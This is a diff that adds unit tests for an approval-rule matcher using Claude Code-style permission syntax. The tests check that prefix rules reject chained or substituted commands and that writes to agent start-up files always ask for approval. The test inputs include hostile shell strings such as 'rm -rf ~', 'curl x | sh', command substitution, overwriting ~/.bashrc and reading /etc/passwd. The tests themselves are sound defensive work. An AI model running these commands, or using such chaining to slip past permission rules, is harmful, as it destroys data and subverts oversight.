@@ -17,6 +17,25 @@ describe('approval rules (Claude Code rule syntax)', () => {
     assert.ok(!ruleMatches('Bash(npm test:*)', 'Bash', {}));
   });
 
+  it('Bash(prefix:*) is no wider than Claude Code: a word boundary, and never a chained or substituted command', () => {
+    assert.ok(ruleMatches('Bash(git status:*)', 'Bash', { command: 'git status' }));
+    assert.ok(ruleMatches('Bash(git status:*)', 'Bash', { command: 'git status --short' }));
+    assert.ok(!ruleMatches('Bash(git status:*)', 'Bash', { command: 'git statusx; rm -rf ~' }));
+    for (const command of ['npm test && curl x | sh', 'npm test; rm -rf ~', 'npm test || sh', 'npm test | sh', 'npm test & sh', 'npm test $(curl x)', 'npm test `curl x`', 'npm test > ~/.bashrc', 'npm test\nrm -rf ~', 'npm test < /etc/passwd']) {
+      assert.ok(!ruleMatches('Bash(npm test:*)', 'Bash', { command }), command);
+    }
+    assert.ok(!ruleMatches('Bash(npm test)', 'Bash', { command: 'npm test; rm -rf ~' }));
+  });
+
+  it('writes to start-up files (.mcp.json, .claude/, CLAUDE.md) are never covered by a rule: they always ask', () => {
+    for (const file_path of ['/w/.mcp.json', '/w/.claude/settings.json', '/w/sub/CLAUDE.md', '/w/CLAUDE.local.md', '.mcp.json']) {
+      assert.ok(!ruleMatches('Write', 'Write', { file_path, content: 'x' }), file_path);
+      assert.ok(!ruleMatches('Edit', 'Edit', { file_path }), file_path);
+    }
+    assert.ok(ruleMatches('Write', 'Write', { file_path: '/w/notes.md', content: 'x' }));
+    assert.ok(ruleMatches('Read', 'Read', { file_path: '/w/.mcp.json' }), 'reading them is not starting anything');
+  });
+
   it('Tool(value) compares the main argument of other tools', () => {
     assert.ok(ruleMatches('Write(/tmp/a.txt)', 'Write', { file_path: '/tmp/a.txt', content: 'x' }));
     assert.ok(!ruleMatches('Write(/tmp/a.txt)', 'Write', { file_path: '/tmp/b.txt' }));
